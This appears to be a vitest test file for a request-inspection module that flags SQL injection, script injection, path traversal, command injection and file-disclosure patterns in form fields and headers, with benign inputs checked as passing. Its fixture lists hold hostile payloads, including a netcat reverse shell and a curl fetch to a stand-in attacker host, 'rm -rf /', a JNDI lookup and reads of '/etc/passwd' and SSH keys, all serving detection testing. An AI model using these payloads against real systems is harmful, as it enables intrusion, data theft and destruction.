import { describe, expect, it } from 'vitest';
import { createAttackFinder } from '../../electron/protect/find-attack.ts';

const finder = createAttackFinder({ knownPaths: new Set(['/authorize', '/token']) });
const form = (name: string, value: string): string => new URLSearchParams([[name, value]]).toString();
const inForm = (value: string, name = 'scope') => finder.inForm(form(name, value))?.pattern ?? null;
const HEAD = { path: '/authorize', query: '', userAgent: '', referer: '' };

const attacks: Readonly<Record<string, readonly string[]>> = {
  sql_injection: [
    "' OR '1'='1",
    "' or 1=1 --",
    '" or ""="a',
    "') OR ('a'='a",
    '1 or 1=1',
    "x' AND 1=1 --",
    "admin'--",
    "admin' ; --",
    "1' UNION SELECT name, value FROM setting--",
    '1 UNION ALL SELECT 1,2,3',
    'union select password from users',
    '1/**/UNION/**/SELECT/**/1',
    "'; DROP TABLE user;--",
    "'; delete from token where 1=1",
    '1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)',
    "'; waitfor delay '0:0:5'--",
    '1; exec xp_cmdshell',
    "1' order by 3",
    "a' || 1=1",
    '1 and pg_sleep (5)',
    "' into outfile '/tmp/x'",
  ],
  script_injection: [
    '<script>alert(1)</script>',
    '< ScRiPt src=//x>',
    '"><img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    'javascript:alert(1)//',
    '<iframe src=x>',
    'data:text/html,<b>x',
    'x=document.cookie',
  ],
  path_traversal: ['../../../x', '..\\..\\windows', '/a/../b', '....//....//x', '/x..;/manager'],
  command_injection: [
    '; cat /etc/group',
    '| nc attacker.test 4444 -e x',
    '$(curl http://attacker.test/x)',
    '`id`',
    '&& rm -rf /',
    ';wget http://x/y.sh',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is how it is written
    '${jndi:ldap://x/a}',
    '() { :; }; echo x',
    'x; bash -i',
    '/bin/sh',
  ],
  file_disclosure: [
    '/etc/passwd',
    'php://filter/resource=index',
    'file:///etc/x',
    '/var/www/.env',
    'c:/windows/win.ini',
    '/x/.git/config',
    '~/.ssh/id_rsa',
  ],
};

describe('C5 a pattern of attack', () => {
  it.each(
    Object.entries(attacks).flatMap(([kind, texts]) => texts.map((text) => [kind, text] as const)),
  )('is found: %s in %j', (kind, text) => {
    expect(inForm(text)).toBe(kind);
    expect(finder.inHead({ ...HEAD, query: form('x', text) })).toEqual({ pattern: kind, part: 'query' });
  });

  it.each([
    ['once', '%27%20OR%20%271%27%3D%271'],
    ['twice', '%2527%2520OR%2520%25271%2527%253D%25271'],
    ['in plus signs', '%27+OR+1%3D1'],
    ['half', "' OR %271'='1"],
  ])('is found when it was encoded %s', (_how, text) => {
    expect(finder.inForm(`scope=${text}`)?.pattern).toBe('sql_injection');
  });

  it.each(['..%2f..%2f..%2fetc', '..%252f..%252f', '..%c0%af..%c0%af', '%2e%2e/%2e%2e/'])('is found in a path: /%s', (path) => {
    expect(finder.inHead({ ...HEAD, path: `/${path}` })).toEqual({ pattern: 'path_traversal', part: 'path' });
  });

  it('is found in the headers that every scanner fills, and named by its part', () => {
    expect(finder.inHead({ ...HEAD, userAgent: "x' or '1'='1" })).toEqual({ pattern: 'sql_injection', part: 'user_agent' });
    expect(finder.inHead({ ...HEAD, userAgent: "x' or '1'='1" })).toEqual({ pattern: 'sql_injection', part: 'user_agent' });
    expect(finder.inHead({ ...HEAD, referer: 'https://x/?<script>' })).toEqual({ pattern: 'script_injection', part: 'referer' });
    expect(finder.inHead({ ...HEAD, path: '/wp-config.php' })).toEqual({ pattern: 'file_disclosure', part: 'path' });
  });

  it('is found in the name of a field, and after as many fields as a form may have', () => {
    expect(finder.inForm(`${encodeURIComponent("' or 1=1 --")}=x`)?.pattern).toBe('sql_injection');
    expect(finder.inForm(`${'a=b&'.repeat(150)}scope=%3Cscript%3E`)?.pattern).toBe('script_injection');
  });

  it('is not made of the end of one field and the beginning of the next', () => {
    expect(finder.inForm('a=union+&b=select+&c=%27&d=or+1%3D1')).toBeNull();
  });
});

describe('C5 what is honest', () => {
  it.each([
    "O'Brien",
    "o'and-o@example.com",
    "D'Or 1",
    "Union Select Committee's chair",
    'maria.select@union.example',
    'openid profile email offline_access',
    'https://app.example.com/callback?next=/a/b&order=1',
    'http://127.0.0.1:49152/cb',
    'com.example.app:/oauth2redirect',
    'S256',
    'eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln-_a',
    '{"userinfo":{"email":{"essential":true}},"id_token":{"auth_time":null}}',
    '["a","b"]',
    'a -- b',
    'Rock & Roll; or nothing',
    'select all from the list',
    'urn:ietf:params:oauth:client-assertion-type:jwt-bearer',
    '3 or 4 people',
    'an etcetera/passwordless flow',
    'C:\\Users\\me',
    '100%',
    '%zz',
    'naïve café €',
  ])('passes: %j', (text) => {
    expect(inForm(text)).toBeNull();
    expect(inForm(text, 'username')).toBeNull();
  });

  it.each([
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
    'Mozilla/5.0 (Linux; U; Android 4.0.3; id; GT-S5360 Build/GRK39F) AppleWebKit/534.30',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'curl/8.11.1',
    'okhttp/4.12.0',
    "Dalvik/2.1.0 (Linux; U; Android 15; O'phone Build/1)",
  ])('passes as a user agent: %s', (userAgent) => {
    expect(finder.inHead({ ...HEAD, userAgent, referer: 'https://app.example.com/login?a=b' })).toBeNull();
  });

  it.each([
    'password',
    'new_password',
    'current-password',
    'client_secret',
    'code_verifier',
    'Passphrase',
  ])('passes: whatever %s holds, also where it is an attack letter by letter', (name) => {
    for (const text of Object.values(attacks).flat()) expect(inForm(text, name)).toBeNull();
  });

  it.each([
    'state',
    'nonce',
    'login_hint',
    'claims',
  ])('passes in %s, which another site chose, unless there is no good reason whatever', (name) => {
    for (const text of ["' or 1=1 --", '/a/../b', 'javascript:go()', 'x; ls -l', '$(document ready)'])
      expect(inForm(text, name)).toBeNull();
    expect(inForm('<script>x', name)).toBe('script_injection');
    expect(inForm('1 union select 2', name)).toBe('sql_injection');
  });

  it('passes: a path that this server has, and no path at all', () => {
    expect(finder.inHead({ ...HEAD, path: '/token' })).toBeNull();
    expect(finder.inForm('')).toBeNull();
    expect(finder.inForm('&&=&a&=b')).toBeNull();
  });
});
